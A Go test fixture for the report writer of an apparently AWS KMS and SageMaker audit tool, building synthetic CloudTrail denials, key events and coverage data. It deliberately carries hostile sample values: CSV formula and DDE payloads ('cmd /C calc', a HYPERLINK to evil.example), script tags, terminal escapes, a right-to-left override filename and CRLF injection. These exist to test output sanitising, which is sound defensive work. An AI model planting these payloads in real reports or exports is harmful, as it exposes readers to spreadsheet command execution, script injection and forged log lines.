package trailreport

import (
	"fmt"
	"strings"
	"time"

	"github.com/sagekey/sagekey/internal/finding"
	"github.com/sagekey/sagekey/internal/inventory"
	"github.com/sagekey/sagekey/internal/report"
	"github.com/sagekey/sagekey/internal/trail"
)

// The fixture's estate: two accounts, two regions, three keys.
const (
	acct     = "111122223333"
	acct2    = "444455556666"
	outside  = "999988887777"
	usEast   = "us-east-1"
	euWest   = "eu-west-1"
	healthy  = "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"
	disabled = "arn:aws:kms:us-east-1:111122223333:key/dead0000-12ab-34cd-56ef-1234567890ab"
	doomed   = "arn:aws:kms:us-east-1:111122223333:key/0987dcba-09ba-87dc-65fe-0987654321fe"
	spare    = "arn:aws:kms:eu-west-1:111122223333:key/5555eeee-12ab-34cd-56ef-1234567890ab"
	scpARN   = "arn:aws:organizations::999988887777:policy/o-a1b2c3d4e5/service_control_policy/p-12345678"
	legacy   = "arn:aws:iam::111122223333:policy/legacy-deny-notebooks"

	platformRole  = "arn:aws:iam::111122223333:role/ml-platform-deployer"
	scientistRole = "arn:aws:iam::111122223333:role/data-scientist"
	trainingRole  = "arn:aws:iam::111122223333:role/NewTrainingRole"
	securityRole  = "arn:aws:iam::111122223333:role/security-admin"
	mallory       = "arn:aws:iam::999988887777:user/mallory"

	// Hostile values: each format must neutralise them (terminal escapes
	// and a fake line for the table, formulas for the CSV, markup passes
	// through JSON as data).
	evilRole   = "arn:aws:iam::111122223333:role/ml\x1b[2Jrole\nFAKE LINE: 0 denials"
	evilKeyRef = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	evilUA     = `<script>alert(1)</script> +cmd|' /C calc'!A0`
	evilUnit   = `=cmd|' /C calc'!A0.json.gz`
	bidi       = "\u202etxt.exe"
)

var (
	oct1 = time.Date(2026, 10, 1, 0, 0, 0, 0, time.UTC)
	nov1 = time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	nov3 = time.Date(2026, 11, 3, 0, 0, 0, 0, time.UTC)
	nov4 = time.Date(2026, 11, 4, 0, 0, 0, 0, time.UTC)
	end  = time.Date(2026, 11, 30, 23, 59, 59, 0, time.UTC)
)

// resource is a scanned resource of the fixture account.
func resource(kind, name string, tags map[string]string) finding.Resource {
	return finding.Resource{ARN: "arn:aws:sagemaker:us-east-1:111122223333:" + kind + "/" + name, Kind: kind, Name: name,
		Account: acct, Region: usEast, Tags: tags}
}

// fixtureInput is the one input every golden file is written from: every
// section filled, every policy relation and guardrail attribution, a key
// event with a long blast radius, key-access verdicts of every kind, coverage with unread days and a cell
// outside the window, problems seen both by the run and in the store, and
// hostile values in principals, keys, user agents, units and reasons.
func fixtureInput() Input {
	var cov []trail.Coverage
	for d := oct1.AddDate(0, 0, -1); !d.After(end); d = d.AddDate(0, 0, 1) {
		cov = append(cov, trail.Coverage{Source: "s3://org-trail-logs/prod", Account: acct, Region: usEast, Day: d})
		if d.Day() != 7 && d.Day() != 8 || d.Month() != time.November {
			cov = append(cov, trail.Coverage{Source: "s3://org-trail-logs/prod", Account: acct, Region: euWest, Day: d})
		}
		if d.After(nov1.AddDate(0, 0, 19)) {
			cov = append(cov, trail.Coverage{Source: "lookup-events", Account: acct2, Region: usEast, Day: d})
		}
	}
	// The same cell from a second source counts once.
	cov = append(cov, trail.Coverage{Source: "lookup-events", Account: acct, Region: usEast, Day: nov3})

	denial := func(day time.Time, key, principal, op, via, policy string, n int64, samples ...string) trail.Denial {
		return trail.Denial{Day: day, Account: acct, Region: usEast, KeyARN: key, Principal: principal, Operation: op,
			Via: via, ErrorCode: "AccessDenied", Policy: policy, Count: n, Samples: samples}
	}
	blocked := func(day time.Time, policyType, arn, guard, principal string, n int64, samples ...string) trail.Blocked {
		return trail.Blocked{Day: day, Account: acct, Region: usEast, Action: "sagemaker:CreateNotebookInstance",
			PolicyType: policyType, PolicyARN: arn, Guardrail: guard, Principal: principal, Count: n, Samples: samples}
	}
	creator := func(name, principal, tool, ua string, at time.Time) trail.Creator {
		return trail.Creator{ResourceARN: "arn:aws:sagemaker:us-east-1:111122223333:training-job/" + name, Account: acct,
			Region: usEast, Action: "sagemaker:CreateTrainingJob", EventID: "c-" + name, Time: at, Principal: principal,
			Identity: "arn:aws:sts::111122223333:assumed-role/x/" + name, SourceIP: "203.0.113.7", UserAgent: ua, Tool: tool}
	}
	request := func(day time.Time, op string, n int64) trail.RequestCount {
		return trail.RequestCount{Day: day, Account: acct, Region: usEast, KeyARN: healthy, Operation: op, Count: n}
	}
	agg := &trail.Aggregates{
		Denials: []trail.Denial{
			denial(nov3, healthy, trainingRole, "kms:GenerateDataKey", trail.ViaSageMaker, trail.PolicyUnnamed, 2, "d-01", "d-02"),
			denial(nov3, healthy, "arn:aws:iam::111122223333:role/Developer", "kms:Decrypt", trail.ViaDirect, trail.PolicyDelegated, 1, "d-03"),
			denial(nov3, evilKeyRef, evilRole, "kms:Decrypt", trail.ViaSageMaker, trail.PolicyUnknown, 4, "d-04"),
			denial(nov4, healthy, trainingRole, "kms:GenerateDataKey", trail.ViaSageMaker, trail.PolicyUnnamed, 1, "d-05"),
			denial(nov4, spare, mallory, "kms:Decrypt", trail.ViaDirect, trail.PolicyUnnamed, 2, "d-06", "d-07"),
			denial(nov4, doomed, platformRole, "kms:Decrypt", trail.ViaDirect, trail.PolicyNamed, 1, "d-08"),
		},
		Blocked: []trail.Blocked{
			blocked(oct1.AddDate(0, 0, 25), trail.PolicySCP, scpARN, trail.GuardrailYes, scientistRole, 1, "b-01"),
			blocked(nov3, trail.PolicySCP, scpARN, trail.GuardrailYes, scientistRole, 3, "b-02", "b-03", "b-04"),
			blocked(nov3, trail.PolicyIdentity, legacy, trail.GuardrailNo, scientistRole, 1, "b-05"),
			blocked(nov4, trail.PolicySCP, "", trail.GuardrailUnknown, "+SUM(A1:A9)", 1, "b-06"),
		},
		Creators: []trail.Creator{
			creator("xgb-1", platformRole, trail.ToolTerraform, "APN/1.0 HashiCorp/1.0 Terraform/1.9.8", oct1.Add(10*time.Hour)),
			creator("xgb-2", platformRole, trail.ToolTerraform, "APN/1.0 HashiCorp/1.0 Terraform/1.9.8", oct1.Add(34*time.Hour)),
			creator("nb-1", scientistRole, trail.ToolSageMakerSDK, "Boto3/1.35.0 lib/AWS-SageMaker-Python-SDK#2.232.1", nov3.Add(9*time.Hour)),
			creator("console-1", scientistRole, trail.ToolConsole, "AWS Internal", nov3.Add(11*time.Hour)),
			creator("evil-1", evilRole, trail.ToolOther, evilUA, nov4.Add(time.Hour)),
		},
		KeyEvents: []trail.KeyEvent{
			{EventID: "k-01", Time: nov3.Add(15*time.Hour + 4*time.Minute), Account: acct, Region: usEast, KeyARN: disabled,
				Action: "kms:DisableKey", Principal: securityRole, Identity: "arn:aws:sts::111122223333:assumed-role/security-admin/carol",
				SourceIP: "198.51.100.23", UserAgent: "aws-cli/2.15.0", Tool: trail.ToolCLI},
			{EventID: "k-02", Time: nov4.Add(8 * time.Hour), Account: acct, Region: usEast, KeyARN: doomed,
				Action: "kms:ScheduleKeyDeletion", Principal: securityRole, SourceIP: "AWS Internal", UserAgent: "AWS Internal",
				Tool: trail.ToolConsole, Detail: "pending window 7 days"},
			{EventID: "k-03", Time: nov4.Add(9 * time.Hour), Account: acct, Region: euWest, KeyARN: spare,
				Action: "kms:PutKeyPolicy", Principal: evilRole, UserAgent: evilUA, Tool: trail.ToolOther, Detail: "alias/" + bidi},
		},
		Requests: []trail.RequestCount{
			request(nov3, "kms:Decrypt", 4), request(nov3, "kms:GenerateDataKey", 8), request(nov4, "kms:GenerateDataKey", 4),
		},
		Problems: []trail.Problem{
			{Unit: "AWSLogs/111122223333/CloudTrail/us-east-1/2026/11/03/f1.json.gz", Kind: trail.ProblemBadRecord, Reason: "not a JSON CloudTrail record", Count: 3},
			{Unit: "AWSLogs/111122223333/CloudTrail/us-east-1/2026/11/04/f2.json.gz", Kind: trail.ProblemUnknownVersion, Reason: "event version 2.0", Count: 1},
		},
		Events: 1234567, Matched: 321,
	}
	protects := map[string][]finding.Resource{
		disabled: {
			resource("notebook-instance", "nb\tevil\nname", map[string]string{"owner": "<script>document.body.dataset.pwned='1'</script>"}),
			resource("endpoint-config", "fraud-v1", nil),
		},
	}
	for i := range 12 {
		protects[doomed] = append(protects[doomed], resource("training-job", fmt.Sprintf("job-%02d", i), map[string]string{}))
	}
	usd := 0.0012
	return Input{
		Source: "s3://org-trail-logs/prod", From: oct1, To: end,
		Aggregates: agg,
		Coverage:   cov,
		Stats:      ReadStats{Listed: 130, Read: 120, Skipped: 8, Failed: 2, Bytes: 12_345_678, Events: 1_234_567, Matched: 321},
		Gaps: []inventory.Gap{
			{Account: acct2, Region: euWest, Service: "s3:ListObjectsV2", Reason: "AccessDenied\x1b[31m (bucket policy)"},
			{Service: "s3:ListObjectsV2", Reason: "organization trail prefix o-a1b2c3d4e5/: access denied"},
		},
		Problems: []trail.Problem{
			{Unit: "AWSLogs/111122223333/CloudTrail/us-east-1/2026/11/03/f1.json.gz", Kind: trail.ProblemBadRecord, Reason: "not a JSON CloudTrail record", Count: 3},
			{Unit: "AWSLogs/111122223333/CloudTrail/us-east-1/2026/11/05/bad.json.gz", Kind: trail.ProblemUnreadable, Reason: "gzip: invalid header", Count: 1},
			{Unit: evilUnit, Kind: trail.ProblemUnreadable, Reason: "unexpected EOF\r\nInjected: yes", Count: 1},
		},
		Protects: map[string][]finding.Resource{
			// Keys as the scan stored them may differ in case from the trail's.
			"ARN:AWS:KMS:US-EAST-1:111122223333:KEY/DEAD0000-12AB-34CD-56EF-1234567890AB": protects[disabled],
			doomed: protects[doomed],
		},
		KeyAccess: fixtureKeyAccess(),
		APICalls: []report.OperationCalls{
			{Operation: "s3:ListObjectsV2", Calls: 40, Retries: 3, Throttles: 1},
			{Operation: "s3:GetObject", Calls: 120},
			{Operation: "sts:AssumeRole", Calls: 2},
		},
		RequestsMonthlyUSD: &usd,
		RequestsBasis:      "monthly run rate over covered days, after each account's free tier",
	}
}

// fixtureKeyAccess are the latest scan's key-access findings: two FAILs
// explain NewTrainingRole's denials (recorded with a path and the key in
// upper case, as SageMaker and the scan may spell them), a PASS judges the
// platform role's direct kms:Decrypt allowed, and the Developer's pair,
// judged only for kms:CreateGrant, says nothing about its kms:Decrypt.
func fixtureKeyAccess() []finding.Finding {
	s3Via, smVia := "s3.us-east-1.amazonaws.com", "sagemaker.us-east-1.amazonaws.com"
	pathRole := "arn:aws:iam::111122223333:role/service-role/NewTrainingRole"
	pair := func(check, role, key, via string, status finding.Status, actions, missing []string) finding.Finding {
		return finding.Finding{CheckID: check, Status: status, Access: []finding.Access{{Role: role, KeyARN: key, ViaService: via,
			Status: status, Actions: actions, Missing: missing}}}
	}
	dataKey := []string{"kms:Decrypt", "kms:GenerateDataKey"}
	return []finding.Finding{
		pair("training-job.key-access", pathRole, strings.ToUpper(healthy), s3Via, finding.Fail, dataKey, dataKey),
		pair("processing-job.key-access", trainingRole, healthy, s3Via, finding.Fail, dataKey, []string{"kms:GenerateDataKey"}),
		pair("transform-job.key-access", platformRole, doomed, s3Via, finding.Pass, dataKey, nil),
		pair("notebook-instance.key-access", "arn:aws:iam::111122223333:role/Developer", healthy, smVia, finding.Pass,
			[]string{"kms:CreateGrant"}, nil),
	}
}
